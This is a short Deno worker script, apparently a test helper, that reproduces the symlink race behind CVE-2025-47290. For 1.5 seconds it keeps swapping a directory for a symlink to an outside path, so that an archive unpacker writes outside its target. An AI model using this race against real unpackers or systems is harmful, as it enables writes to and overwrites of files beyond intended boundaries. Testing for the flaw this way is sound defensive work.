/** Swaps a directory for a symlink and back, as fast as it can (the attacker of CVE-2025-47290). */
/// <reference lib="deno.worker" />
self.onmessage = ({ data: { dir, outside } }: MessageEvent<{ dir: string; outside: string }>) => {
  const until = performance.now() + 1500;
  let swaps = 0;
  while (performance.now() < until) {
    try {
      Deno.renameSync(dir, `${dir}.away`);
      Deno.symlinkSync(outside, dir);
      Deno.removeSync(dir);
      Deno.renameSync(`${dir}.away`, dir);
      swaps++;
    } catch {
      // The unpacker was faster: it has made a directory meanwhile.
      try {
        Deno.removeSync(dir, { recursive: true });
      } catch {
        // Or removed what was there.
      }
      try {
        Deno.renameSync(`${dir}.away`, dir);
      } catch {
        // There is none yet.
      }
    }
  }
  self.postMessage(swaps);
};
